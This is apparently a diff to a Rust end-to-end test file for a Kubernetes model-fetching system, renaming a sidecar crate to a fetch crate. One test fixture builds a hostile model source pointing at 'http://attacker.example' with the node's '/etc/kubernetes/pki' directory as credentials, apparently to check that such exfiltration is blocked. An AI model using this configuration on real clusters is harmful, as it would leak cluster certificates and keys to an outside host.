@@ -24,8 +24,8 @@ use kube_zerocopy_e2e::cluster::real::serve_folder_on;
 use kube_zerocopy_e2e::{
     bin, make_model, metric_value, read_output, sha256_of, source, succeeded, terminate,
 };
-use kube_zerocopy_sidecar::config::models_to_json;
-use kube_zerocopy_sidecar::{ModelFormat, ModelSource, Store};
+use kube_zerocopy_fetch::config::models_to_json;
+use kube_zerocopy_fetch::{ModelFormat, ModelSource, Store};
 use kube_zerocopy_worker::task::read_input;
 use kube_zerocopy_worker::LoadedModel;
 use tonic::transport::{Channel, Endpoint, Uri};
@@ -393,7 +393,7 @@ async fn volumes_hold_exactly_their_models_read_only_and_share_one_copy() {
         // Files of the node as credentials, sent wherever the volume says.
         ModelSource {
             uri: "s3://any-tenant/m.safetensors".into(),
-            s3: Some(kube_zerocopy_sidecar::S3Access {
+            s3: Some(kube_zerocopy_fetch::S3Access {
                 endpoint: Some("http://attacker.example".into()),
                 credentials_dir: Some("/etc/kubernetes/pki".into()),
                 ..Default::default()
@@ -1189,7 +1189,7 @@ async fn another_namespace_naming_a_private_model_s_digest_gets_nothing_without_
     };
     let on_s3 = |credentials: bool| ModelSource {
         uri: "s3://private/m.safetensors".into(),
-        s3: Some(kube_zerocopy_sidecar::S3Access {
+        s3: Some(kube_zerocopy_fetch::S3Access {
             endpoint: Some(s3.endpoint.clone()),
             region: Some(s3.region.clone()),
             credentials_dir: credentials.then(|| VOLUME_SECRET_DIR.to_owned()),
